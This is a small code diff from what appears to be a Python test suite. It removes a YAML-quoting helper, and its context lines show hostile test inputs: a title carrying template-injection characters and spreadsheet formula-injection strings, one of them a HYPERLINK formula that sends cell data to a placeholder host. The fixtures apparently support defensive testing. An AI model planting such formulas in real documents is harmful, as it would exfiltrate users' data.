@@ -91,11 +91,6 @@ HOSTILE_TITLE = "Perf < fast | {{ 1+1 }} *x*"
 FORMULAS = ['=HYPERLINK("https://example.invalid/?leak="&A1,"More")', "+1 to the other", "-1 against it", "@SUM(A1:A9)"]
 
 
-def quoted(text: str) -> str:
-    """``text`` as a single-quoted YAML scalar."""
-    return "'" + text.replace("'", "''") + "'"
-
-
 # --- a browser cut off from other hosts ----------------------------------------------------------
 
 
